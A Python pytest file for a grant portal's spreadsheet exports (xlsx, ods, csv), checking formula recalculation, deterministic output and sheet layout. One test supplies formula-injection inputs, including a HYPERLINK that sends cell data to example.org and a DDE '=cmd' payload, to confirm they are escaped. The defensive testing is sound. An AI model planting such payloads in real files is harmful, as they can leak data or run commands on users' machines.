"""The sheets of a return: formulas worked out again, values for readers that do not, no text that runs."""

import csv
import io
import re
import zipfile
from datetime import UTC, datetime
from decimal import Decimal
from functools import partial
from typing import Any

import pytest
from odf import table as odf
from odf.opendocument import load
from openpyxl import load_workbook

from funding import documents
from funding.rules import snapshots
from funding.rules.sections import Kind, Section
from svd_portal.kit.rules.tables import Formula
from tests.pdf import recalculated
from tests.pdf import sample_return as sample

BUILDS = {
    "empty": sample.empty,
    "one": partial(sample.several, 1),
    "ordinary": sample.ordinary,
    "forty with long names": sample.long,
    "six hundred": partial(sample.several, 600),
}


def cells_of(xlsx: bytes, *, calculated: bool = False) -> recalculated.Cells:
    book = load_workbook(io.BytesIO(xlsx), data_only=calculated)
    return {
        (sheet.title, cell.row, cell.column): cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


def row_of(cells: recalculated.Cells, sheet: str, label: str) -> int:
    return next(
        row for (name, row, column), found in cells.items() if (name, column, found) == (sheet, 1, label)
    )


@pytest.mark.parametrize("name", BUILDS)
def test_every_formula_comes_to_what_stands_beside_it(name: str) -> None:
    xlsx = documents.xlsx(sample.frozen(BUILDS[name]()))
    cells, shown = cells_of(xlsx), cells_of(xlsx, calculated=True)
    formulas = {
        place: found for place, found in cells.items() if isinstance(found, str) and found.startswith("=")
    }
    assert len(formulas) >= 12
    wrong = {
        place: (found, shown.get(place))
        for place, found in formulas.items()
        if recalculated.value(cells, *place) != Decimal(str(shown[place])).quantize(Decimal("0.01"))
    }
    assert wrong == {}


@pytest.mark.parametrize("name", BUILDS)
def test_the_sums_worked_out_again_are_those_that_were_certified(name: str) -> None:
    content = BUILDS[name]()
    cells = cells_of(documents.xlsx(sample.frozen(content)))
    columns = {"allocation": 2, "awarded": 3, "actual": 4, "year_to_date": 5, "forecast": 6}
    for label, figures in [("Total", content["total"])] + [
        (group["meaning"], group) for group in content["cost_types"]
    ]:
        row = row_of(cells, "Summary", label)
        for figure, column in columns.items():
            assert recalculated.value(cells, "Summary", row, column) == Decimal(figures[figure]), (
                label,
                figure,
            )
    if content["total"]["awarded"] != "0.00":
        changed = dict(cells)
        first = next(place for place in cells if place[0] == "Awards" and place[1:] == (2, 9))
        changed[first] += 100
        row = row_of(cells, "Summary", "Total")
        assert (
            recalculated.value(changed, "Summary", row, 5) == Decimal(content["total"]["year_to_date"]) + 100
        )


def test_an_open_document_has_the_same_formulas_and_values() -> None:
    frozen = sample.frozen(sample.ordinary())
    found = [
        (cell.getAttribute("formula"), cell.getAttribute("value"))
        for cell in load(io.BytesIO(documents.ods(frozen))).getElementsByType(odf.TableCell)
        if cell.getAttribute("formula")
    ]
    sheets = documents.return_sheets.workbook(frozen.content, frozen.signed, frozen.sha256)
    assert found == [
        (value.open_document, str(value.value))
        for sheet in sheets
        for row in sheet.rows
        for value in row
        if isinstance(value, Formula)
    ]
    assert ("of:=SUM([.G2:.G3])", "108000.00") in found
    assert ("of:=[$Awards.H4]", "50850.75") in found


def test_a_cell_says_where_nothing_was_reported() -> None:
    cells = cells_of(documents.xlsx(sample.frozen(sample.ordinary())))
    said = {cells[("Awards", row, 2)]: cells[("Awards", row, 8)] for row in (2, 3, 5, 6, 7)}
    assert said == {
        "SV/2023/01": 19600,
        "SV/2023/02": 31250.75,
        "SV/2023/03": 1234.56,
        "SV/2023/04": 900,
        "SV/2023/05": "Does not run",
    }


OURS = re.compile(r"=(SUM\([A-Z0-9:,]+\)|[A-Z]+\d+-[A-Z]+\d+|Awards![A-Z]+\d+)")
RUNNING = '=HYPERLINK("https://example.org/?"&A1,"Click")'


def injected() -> dict[str, Any]:
    awards = [
        sample.award(1, title=RUNNING, recipient="+SUM(1)", partner="@SUM(1)", purpose="-1+2", reason="=1+1")
    ]
    return sample.content(awards, {"=1+1": "=cmd|' /C calc'!A0", "Tab": "\t=1"}, [])


def test_what_a_person_typed_never_runs() -> None:
    frozen = sample.frozen(injected())
    xlsx = documents.xlsx(frozen)
    formulas = {found for found in cells_of(xlsx).values() if isinstance(found, str) and found[0] == "="}
    assert [found for found in formulas if not OURS.fullmatch(found)] == []
    written = b"".join(
        zipfile.ZipFile(io.BytesIO(xlsx)).read(f"xl/worksheets/sheet{n}.xml") for n in (1, 2, 3)
    )
    assert b"<f>HYPERLINK" not in written
    rows = list(csv.reader(io.StringIO(documents.csv(frozen).decode("utf-8-sig"))))
    assert [rows[1][place] for place in (2, 3, 4, 5, 13)] == [
        f"'{RUNNING}",
        "'+SUM(1)",
        "'@SUM(1)",
        "'-1+2",
        "'=1+1",
    ]
    ods = load(io.BytesIO(documents.ods(frozen)))
    open_formulas = [cell.getAttribute("formula") or "" for cell in ods.getElementsByType(odf.TableCell)]
    assert not any("HYPERLINK" in each or "cmd" in each for each in open_formulas)


@pytest.mark.parametrize("make", [documents.xlsx, documents.ods, documents.csv])
def test_the_same_content_gives_the_same_bytes(make: Any) -> None:
    assert make(sample.frozen(sample.ordinary())) == make(sample.frozen(sample.ordinary()))


def test_a_workbook_carries_the_moment_of_the_last_signature() -> None:
    properties = load_workbook(io.BytesIO(documents.xlsx(sample.frozen(sample.ordinary())))).properties
    assert properties.title == "Quarterly return, 2023/24 quarter 3"
    assert properties.created.replace(tzinfo=UTC) == datetime(2024, 1, 29, 10, 0, tzinfo=UTC)
    assert properties.modified == properties.created


def test_the_workbook_holds_what_was_said_about_the_return() -> None:
    cells = cells_of(documents.xlsx(sample.frozen(sample.talked_about())))
    assert "Known, and in hand." in [
        found for (sheet, _row, column), found in cells.items() if (sheet, column) == ("Findings", 4)
    ]
    said = {(row, column): found for (sheet, row, column), found in cells.items() if sheet == "Comments"}
    assert [said[2, 1], said[2, 3], said[2, 4]] == [
        "Woking Borough Council",
        "The evenings were cut by storms.",
        "It is in the narrative now.",
    ]
    assert [said[3, 1], said[3, 3]] == ["Surrey Probation Service", "Nothing was said"]
    assert [said[4, 1], said[4, 3]] == [
        "By the PCC finance officer",
        "More time was given: The councils met on 25 January.",
    ]


def test_the_sheets_follow_the_sections_of_the_grant() -> None:
    asked = [
        Section("comments", Kind.COMMENTS),
        Section("reached", Kind.REACHED),
        Section("awards", Kind.AWARDS),
    ]
    told = snapshots.ReachFacts(
        "Mentoring", "A charity", "fewer than 5", "12", "Sessions: 40", "Six began.", True
    )
    content = sample.content([sample.award(1)], {}, [], laid_out=asked, reached=[told])
    sheets = documents.return_sheets.workbook(content, [], "0" * 64)
    assert [each.name for each in sheets] == ["Summary", "Comments", "Interventions", "Awards", "Signatures"]
    assert sheets[2].rows[1] == [
        *("Mentoring", "A charity", "fewer than 5", "12", "Sessions: 40", "Six began.", "Yes"),
    ]
